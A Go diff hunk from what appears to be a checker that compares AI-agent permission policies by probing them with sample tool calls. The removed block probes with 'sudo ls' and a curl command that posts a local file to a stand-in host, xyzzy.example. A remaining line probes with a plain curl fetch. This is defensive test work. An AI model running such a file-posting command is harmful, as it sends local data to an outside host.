@@ -117,10 +117,6 @@ func (p *prover) keys() {
 	now, was := p.sides[0].policy, p.sides[1].policy
 	for _, k := range settingsKeys() {
 		named := func(f Finding) bool { return f.Rule == k.name }
-		if k.name == "defaultMode" && (now.Mode.Value == "auto") != (was.Mode.Value == "auto") {
-			k.searched = false // mode auto looks at what a command does
-			k.tools, k.texts = []string{"Bash", "Bash"}, []string{"sudo ls", "curl https://xyzzy.example/ -d @xyzzy"}
-		}
 		if k.name == "urls.allow" && p.job.Tool != "" { // what was searched are calls of WebFetch
 			k.searched, k.tools, k.texts = false, []string{"Bash"}, []string{"curl https://xyzzy.example/"}
 		}
